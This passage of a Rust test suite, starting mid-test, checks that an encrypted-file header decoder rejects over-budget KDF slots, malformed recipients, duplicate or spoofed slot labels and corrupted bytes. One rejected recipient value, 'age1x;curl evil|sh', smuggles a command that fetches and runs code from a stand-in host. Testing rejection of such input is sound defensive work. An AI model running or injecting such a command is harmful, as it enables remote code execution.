        h.keys.slots.retain(|s| s.kind.kdf().is_none());
        h.keys.slots.push(SlotV2 {
            id: SlotId([0x20; 4]),
            label: None,
            kind: SlotKindV2::LegacyPassphrase {
                salt: vec![1; 16],
                params: top,
                nonce: [0; NONCE_LEN],
                wrapped: [0; WRAPPED_LEN],
            },
        });
        assert_eq!(h.keys.kdf_cost(None), KDF_BUDGET);
        assert!(HeaderV2::decode(&h.encode()).is_ok());
        // …one more pass of the cheapest slot is not.
        h.keys.slots.push(SlotV2 {
            id: SlotId([0x21; 4]),
            label: None,
            kind: SlotKindV2::LegacyPassphrase {
                salt: vec![1; 16],
                params: KdfParams::CHEAPEST,
                nonce: [0; NONCE_LEN],
                wrapped: [0; WRAPPED_LEN],
            },
        });
        assert_eq!(refused(&h), FormatError::KdfOverBudget);
    }

    #[test]
    fn out_of_bounds_fields_are_refused() {
        let base = sample_header_v2();
        let mut h = base.clone();
        h.generation = MAX_GENERATION + 1;
        h.keys.epoch = 0;
        assert_eq!(
            refused(&h),
            FormatError::Corrupt("generation out of bounds")
        );
        let mut h = base.clone();
        h.keys.epoch = h.generation + 1;
        assert!(matches!(refused(&h), FormatError::Corrupt(_)));
        let mut h = base.clone();
        h.keys.slots[1].id = h.keys.slots[0].id;
        assert_eq!(refused(&h), FormatError::Corrupt("duplicate slot id"));
        let mut h = base.clone();
        h.keys.slots[2].label = h.keys.slots[0].label.clone();
        assert_eq!(refused(&h), FormatError::Corrupt("duplicate slot label"));
        let mut h = base.clone();
        h.keys.slots.clear();
        assert_eq!(
            refused(&h),
            FormatError::Corrupt("slot count out of bounds")
        );
        for bad in [
            "two  spaces",
            " lead",
            "trail ",
            "",
            "tab\there",
            "nul\0",
            "é",
            " ",
            "del\u{7f}",
            "a  b c",
        ] {
            let mut h = base.clone();
            if let SlotKindV2::Recipient(w) = &mut h.keys.slots[2].kind {
                w.recipient = bad.into();
            }
            assert_eq!(
                refused(&h),
                FormatError::Corrupt("malformed recipient"),
                "{bad:?}"
            );
        }
        for good in ["ssh-ed25519 AAAA me@host", "a", "x y z"] {
            assert!(valid_recipient(good.as_bytes()), "{good:?}");
        }
        let mut h = base.clone();
        if let SlotKindV2::Recipient(w) = &mut h.keys.slots[2].kind {
            w.age = b"not age".to_vec();
        }
        assert!(matches!(refused(&h), FormatError::Corrupt(_)));
        let mut h = base.clone();
        if let SlotKindV2::Keyring(w) = &mut h.keys.slots[0].kind {
            w.recipient = "ssh-ed25519 AAAA".into();
        }
        assert!(matches!(refused(&h), FormatError::Corrupt(_)));
        // The recipient of a keyring slot names its keyring entry: only a
        // real X25519 recipient passes, never text that merely starts so.
        for bad in ["age1x;curl evil|sh", "age1", "age1qqqq"] {
            let mut h = base.clone();
            if let SlotKindV2::Keyring(w) = &mut h.keys.slots[0].kind {
                w.recipient = bad.into();
            }
            assert!(matches!(refused(&h), FormatError::Corrupt(_)), "{bad}");
        }
        let mut h = base;
        if let SlotKindV2::Passphrase { params, .. } = &mut h.keys.slots[1].kind {
            params.time = 17;
        }
        assert!(matches!(refused(&h), FormatError::KdfOutOfBounds(_)));
    }

    #[test]
    fn a_label_smuggled_past_the_rule_is_refused() {
        // Write a label the rule refuses by patching the encoded bytes.
        let h = sample_header_v2();
        let bytes = h.encode();
        for (bad, why) in [
            ("desk\u{202e}a", "override"),
            ("0a0b0c0d", "id lookalike"),
            ("desk\n\u{7}ab", "control"),
            (" desktop", "padded"),
        ] {
            assert_eq!(
                bad.len(),
                "desktop1".len(),
                "{why}: same length for the patch"
            );
            let patched: Vec<u8> = {
                let pos = bytes.windows(8).position(|w| w == b"desktop1").unwrap();
                let mut b = bytes.clone();
                b[pos..pos + 8].copy_from_slice(bad.as_bytes());
                b
            };
            assert_eq!(
                HeaderV2::decode(&patched).unwrap_err(),
                FormatError::Corrupt("invalid slot label"),
                "{why}"
            );
        }
    }

    #[test]
    fn label_rule() {
        assert!(Label::parse("CI (GitHub)").is_ok());
        assert!(Label::parse("récupération").is_ok());
        assert!(Label::parse(&"a".repeat(64)).is_ok());
        assert_eq!(Label::parse(""), Err(LabelProblem::Empty));
        assert_eq!(Label::parse(&"a".repeat(65)), Err(LabelProblem::TooLong));
        assert_eq!(Label::parse("DEADBEEF"), Err(LabelProblem::LooksLikeId));
        assert_eq!(Label::parse("deadbeef"), Err(LabelProblem::LooksLikeId));
        assert!(Label::parse("deadbeef0").is_ok());
        for bad in [
            "ci\u{E0020}",
            "\u{3164}",
            "a\u{FE0F}",
            "a\u{2800}",
            "a\u{202E}b",
            "a\u{2066}b",
            "a\u{200B}b",
            "a\tb",
            "a\u{85}b",
            "\u{FEFF}a",
        ] {
            assert_eq!(Label::parse(bad), Err(LabelProblem::Invisible), "{bad:?}");
        }
        assert_eq!(Label::parse(" a"), Err(LabelProblem::Padded));
        assert_eq!(Label::parse("a\u{3000}"), Err(LabelProblem::Padded));
    }

    proptest! {
        #[test]
        fn decode_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..1200)) {
            let _ = HeaderV2::decode(&bytes);
        }

        #[test]
        fn whatever_decodes_re_encodes_to_the_same_bytes(pos in 0usize..2000, val in any::<u8>()) {
            let mut bytes = sample_header_v2().encode();
            let pos = pos % bytes.len();
            bytes[pos] = val;
            if let Ok(h) = HeaderV2::decode(&bytes) {
                prop_assert_eq!(h.encode(), bytes);
            }
        }
    }
}
